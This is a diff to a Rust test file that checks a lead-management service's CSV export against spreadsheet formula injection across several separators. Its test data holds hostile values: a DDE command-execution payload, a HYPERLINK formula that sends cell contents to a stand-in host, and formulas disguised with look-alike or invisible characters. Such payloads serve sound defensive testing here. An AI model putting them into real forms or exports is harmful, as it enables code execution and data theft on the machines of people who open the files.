@@ -2,6 +2,7 @@
 
 use serde_json::{Value, json};
 
+use crate::browser::signed_in;
 use crate::http::{Client, Reply};
 use crate::server::Span::{Ms, Seconds};
 use crate::server::TestServer;
@@ -117,7 +118,7 @@ fn g15_no_cell_is_a_formula() {
     server.visitor(&agent).lead(&form).is(201);
     let exported = export(&server, &format!("/api/v1/agents/{agent}/leads"));
     let row = &rows(&exported, &LEADS)[0];
-    for (column, text) in [(3, "'=1+1"), (4, "jane@example.com"), (5, "'+1-555-0123"), (6, "'@x"), (7, "'-2+3")] {
+    for (column, text) in [(3, "'=1+1"), (4, "jane@example.com"), (5, "+1-555-0123"), (6, "'@x"), (7, "'-2+3")] {
         assert_eq!(row[column], text);
     }
     // What is shown as JSON is what was written.
@@ -175,4 +176,42 @@ fn an_export_that_cannot_be_made_is_refused_in_json() {
             assert_ne!(server.with("accept", accept).get(&path).is(200).json, Value::Null, "{accept}");
         }
     }
+}
+
+/// The cells that somebody sees who takes this for the separator.
+fn cells(file: &str, separator: u8) -> Vec<String> {
+    let mut reader =
+        csv::ReaderBuilder::new().delimiter(separator).flexible(true).has_headers(false).from_reader(file.as_bytes());
+    reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
+}
+
+#[test]
+fn a_strangers_lead_is_no_formula_whatever_a_spreadsheet_takes_for_the_separator() {
+    let (server, mut browser) = signed_in();
+    let account: String = server.database().query_row("SELECT id FROM accounts", [], |row| row.get(0)).unwrap();
+    let agent = server.api_of(&account).agent(&json!({ "name": "Ada" }));
+    let forms = [
+        json!({ "name": "Eve;=cmd|'/C calc'!A0;", "email": "eve@example.com" }),
+        json!({ "message": "hello\n=HYPERLINK(\"http://evil.test/?\"&A1)", "email": "m@example.com" }),
+        json!({ "message": "Tab\t=1+1\t", "company": "Bar|@SUM(A1)", "email": "t@example.com" }),
+        json!({ "name": "＝1+1", "company": "\u{200b}=1+1", "message": "\n \"=1+1\"", "email": "f@example.com" }),
+        json!({ "name": "Grüße, Zoë", "phone": "+49 170 1234567", "message": "-1\u{2028}+1\u{2029}=1" }),
+    ];
+    for form in &forms {
+        server.visitor_at(&agent, "https://x.test/p;=cmd%7C'/C%20calc'!A0;").lead(form).is(201);
+    }
+    let file = browser.get("/leads/export").is(200).text;
+    assert!(file.starts_with("\u{feff}\"id\",\"agent_id\","), "{file}");
+    assert!(file.contains("\"Grüße, Zoë\"") && file.contains("\"+49 170 1234567\""), "{file}");
+    let hidden = |c: char| c.is_whitespace() || matches!(c, '"' | '\u{200b}' | '\u{feff}');
+    for separator in *b",;\t|" {
+        let live = cells(&file, separator).into_iter().filter(|cell| {
+            let shown = cell.trim_matches(hidden);
+            shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && shown != "+49 170 1234567"
+        });
+        assert_eq!(live.collect::<Vec<_>>(), [""; 0], "{}", char::from(separator));
+    }
+    // A program is told the same rows, without a mark that it would have to know.
+    let told = export(&server.api_of(&account), &format!("/api/v1/agents/{agent}/leads")).text;
+    assert_eq!(told, file.trim_start_matches('\u{feff}'));
 }
